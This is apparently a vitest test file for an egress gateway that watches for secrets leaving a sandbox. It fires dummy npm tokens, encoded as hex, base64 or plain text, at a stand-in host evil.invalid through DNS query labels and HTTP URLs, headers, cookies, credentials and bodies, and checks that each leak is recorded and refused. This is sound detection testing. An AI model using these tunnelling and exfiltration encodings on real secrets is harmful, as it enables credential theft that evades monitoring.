import { createSocket } from 'node:dgram';
import { connect } from 'node:net';
import { decode, encode } from 'dns-packet';
import { describe, expect, it } from 'vitest';
import type { EgressLeak } from '../../../src/egress/content/leak.js';
import type { Gateway } from '../../../src/egress/gateway.js';
import { exchange, gatewayWith, host, keeper, page, registryOn, statusOf, until } from '../harness.js';

const kept = keeper();
const TOKEN = 'npm_Xk29fQpL7vRt3WsZ8yBnC4dMhJ6gUeA1oTiD';
const secrets = [
  { name: 'npm token', value: TOKEN },
  { name: 'SSH key', value: 'Zm9vYmFyMTIzNDU2Nzg5MHF3ZXJ0eXVpb3Bhc2RmZ2hqa2w' },
];
const guarded = () => gatewayWith({ secrets }).then(kept);
const b64 = Buffer.from(`//npm.corp.invalid/:_authToken=${TOKEN}\n`).toString('base64');
const hex = Buffer.from(TOKEN).toString('hex');
const chunks = (text: string, size: number) => text.match(new RegExp(`.{1,${size}}`, 'g')) ?? [];

/** Asks for names, one after the other, and waits for the last answer. */
async function ask(gateway: Gateway, names: readonly string[]): Promise<void> {
  const socket = createSocket('udp4');
  for (const [id, name] of names.entries()) {
    const answered = new Promise((resolve) => socket.once('message', (message) => resolve(decode(message))));
    socket.send(encode({ type: 'query', id, questions: [{ type: 'A', name }] }), gateway.ports.dns, '127.0.0.1');
    await answered;
  }
  socket.close();
}

const TUNNELS: readonly [what: string, names: readonly string[], encoding: EgressLeak['encoding']][] = [
  ['hexadecimal in 30-byte labels', chunks(hex, 30).map((part) => `${part}.evil.invalid`), 'hex'],
  ['numbered by a label', chunks(hex, 30).map((part, i) => `${part}.${i}.t.evil.invalid`), 'hex'],
  ['numbered before the data', chunks(hex, 30).map((part, i) => `00${i}.${part}.evil.invalid`), 'hex'],
  [
    'in reverse order',
    chunks(hex, 30)
      .map((part) => `${part}.evil.invalid`)
      .reverse(),
    'hex',
  ],
  [
    'each asked for twice',
    chunks(hex, 8).flatMap((part, i) => [`${part}.${i}.evil.invalid`, `${part}.${i}.evil.invalid`]),
    'hex',
  ],
  ['in small pieces', chunks(hex, 6).map((part, i) => `${part}.${i}.evil.invalid`), 'hex'],
  ['many labels in one name', [`${chunks(hex, 6).join('.')}.evil.invalid`], 'hex'],
  [
    'base64url in 30-byte labels',
    chunks(b64.replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', ''), 30).map(
      (part, i) => `x${part}.${i}.evil.invalid`,
    ),
    'base64',
  ],
  ['base64 as it is, which is no host name', chunks(b64, 30).map((part) => `${part}.evil.invalid`), 'base64'],
  ['as it is, with an underscore', [`${TOKEN}.evil.invalid`], 'plain'],
  ['in upper case', [`${TOKEN.toUpperCase()}.EVIL.invalid`], 'plain'],
];

describe('a secret in DNS questions', () => {
  it.each(TUNNELS)('%s', async (_what, names, encoding) => {
    const gateway = await guarded();
    await ask(gateway, names);
    expect(gateway.leaks()).toEqual([
      expect.objectContaining({
        secret: 'npm token',
        host: 'evil.invalid',
        port: null,
        via: 'dns',
        where: 'name',
        encoding,
      }),
    ]);
    expect(names.map((name) => name.toLowerCase())).toContain(gateway.leaks()[0]?.asked);
  });

  it('two simultaneous tunnels are distinguished', async () => {
    const gateway = await guarded();
    const parts = chunks(hex, 6);
    await ask(
      gateway,
      parts.flatMap((part, i) => [`${part}.${i}.one.invalid`, `${part}.${i}.two.invalid`]),
    );
    expect(
      gateway
        .leaks()
        .map((leak) => leak.host)
        .sort(),
    ).toEqual(['one.invalid', 'two.invalid']);
  });

  it('is seen behind the rows of the ledger', async () => {
    const gateway = kept(await gatewayWith({ secrets, caps: { records: 5 } }));
    await ask(
      gateway,
      Array.from({ length: 50 }, (_, i) => `a.site${i}.invalid`),
    );
    await ask(
      gateway,
      chunks(hex, 30).map((part, i) => `${part}.${i}.evil.invalid`),
    );
    expect(gateway.leaks()).toHaveLength(1);
  });
});

const post = (body: string, head = `Content-Length: ${Buffer.byteLength(body)}\r\n`) =>
  `POST http://evil.invalid/in HTTP/1.1\r\nHost: evil.invalid\r\n${head}\r\n${body}`;
const get = (path: string, more = '') => `GET http://evil.invalid${path} HTTP/1.1\r\nHost: evil.invalid\r\n${more}\r\n`;
const chunked = (...parts: string[]) =>
  `${parts.map((part) => `${part.length.toString(16)}\r\n${part}\r\n`).join('')}0\r\n\r\n`;

const REQUESTS: readonly [what: string, bytes: string, where: string, encoding: string][] = [
  ['the target of CONNECT', host(`${hex.slice(0, 60)}.evil.invalid:443`), 'name', 'hex'],
  ['a query', get(`/?t=${TOKEN}`), 'url', 'plain'],
  [
    'a percent-encoded query',
    get(`/?t=${[...TOKEN].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}`),
    'url',
    'plain',
  ],
  ['a path', get(`/${hex}/x`), 'url', 'hex'],
  ['a header', get('/', `X-Data: ${b64}\r\n`), 'header', 'base64'],
  ['the name of a header', get('/', `X-${TOKEN}: 1\r\n`), 'header', 'plain'],
  ['a cookie', get('/', `Cookie: s=${TOKEN}\r\n`), 'header', 'plain'],
  [
    'credentials',
    get('/', `Authorization: Basic ${Buffer.from(`ci:${TOKEN}`).toString('base64')}\r\n`),
    'header',
    'base64',
  ],
  ['a body', post(JSON.stringify({ token: TOKEN })), 'body', 'plain'],
  ['a body in base64', post(b64), 'body', 'base64'],
  ['a body, byte by byte', post(chunked(...TOKEN), 'Transfer-Encoding: chunked\r\n'), 'body', 'plain'],
  ['a body behind 500 KB of others', post(`${'x'.repeat(500_000)}${TOKEN}`), 'body', 'plain'],
  ['a body that never ends', post(`${TOKEN}and more to come`, 'Content-Length: 1000000\r\n'), 'body', 'plain'],
];

describe('a secret in a request that is refused', () => {
  it.each(REQUESTS)('%s', async (_what, bytes, where, encoding) => {
    const gateway = kept(await gatewayWith({ secrets, caps: { refusedMs: 200 } }));
    expect(statusOf(await exchange(gateway.ports.proxy, bytes))).toBe(403);
    expect(gateway.leaks()).toEqual([
      expect.objectContaining({ secret: 'npm token', host: 'evil.invalid', via: 'proxy', where, encoding, count: 1 }),
    ]);
    expect(gateway.leaks()[0]?.clientPorts).toHaveLength(1);
  });

  it('of which no host can be read', async () => {
    const gateway = await guarded();
    await exchange(
      gateway.ports.proxy,
      `POST http://2130706433/ HTTP/1.1\r\nHost: 2130706433\r\nContent-Length: 40\r\n\r\n${TOKEN}`,
    );
    expect(gateway.leaks()).toEqual([expect.objectContaining({ host: '(unreadable)', where: 'body' })]);
  });
});

describe('a secret in what is let through', () => {
  it('a plain body reaches the far side unchanged, and is seen', async () => {
    const web = kept(await page());
    const gateway = kept(await registryOn(web.port, { secrets }));
    const head = `POST http://registry.test:${web.port}/ HTTP/1.1\r\nHost: registry.test:${web.port}\r\nConnection: close\r\n`;
    const answer = await exchange(gateway.ports.proxy, `${head}Content-Length: ${TOKEN.length}\r\n\r\n${TOKEN}`);
    expect(statusOf(answer)).toBe(200);
    expect(gateway.leaks()).toEqual([
      expect.objectContaining({ host: 'registry.test', port: web.port, where: 'body' }),
    ]);
  });

  it('a tunnel that is not encrypted is read', async () => {
    const web = kept(await page());
    const gateway = kept(await registryOn(web.port, { secrets }));
    const inside = `POST / HTTP/1.1\r\nConnection: close\r\nContent-Length: ${TOKEN.length}\r\n\r\n${TOKEN}`;
    await exchange(gateway.ports.proxy, host(`registry.test:${web.port}`) + inside);
    expect(gateway.leaks()).toEqual([expect.objectContaining({ host: 'registry.test', where: 'body' })]);
  });
});

it('an honest install leaks nothing', async () => {
  const gateway = await guarded();
  await ask(gateway, ['registry.npmjs.org', 'github.com', 'd1a2b3c4.cloudfront.net']);
  await exchange(gateway.ports.proxy, get('/left-pad/-/left-pad-1.3.0.tgz', 'User-Agent: npm/12.2.0 node/v24\r\n'));
  expect(gateway.leaks()).toEqual([]);
  expect(gateway.dataNames()).toEqual([]);
});

it('the same secret again and again is one row, counted', async () => {
  const gateway = await guarded();
  for (let i = 0; i < 30; i += 1) await exchange(gateway.ports.proxy, get(`/?n=${i}&t=${TOKEN}`));
  expect(gateway.leaks()).toEqual([expect.objectContaining({ where: 'url', count: 30 })]);
  expect(gateway.leaks()[0]?.clientPorts).toHaveLength(16);
});

it('a body of 64 MiB is refused in bounded memory and time', async () => {
  const gateway = await guarded();
  const before = process.memoryUsage().rss;
  const client = connect(gateway.ports.proxy, '127.0.0.1');
  client.on('error', () => undefined).resume();
  client.write('POST http://evil.invalid/ HTTP/1.1\r\nHost: evil.invalid\r\nContent-Length: 67108864\r\n\r\n');
  const chunk = Buffer.alloc(2 ** 20, 'x');
  const send = () => {
    while (!client.destroyed && client.write(chunk));
  };
  client.on('drain', send);
  send();
  await until(() => client.closed);
  expect(process.memoryUsage().rss - before).toBeLessThan(64 * 2 ** 20);
  expect(gateway.records()).toEqual([expect.objectContaining({ host: 'evil.invalid', allowed: false })]);
});
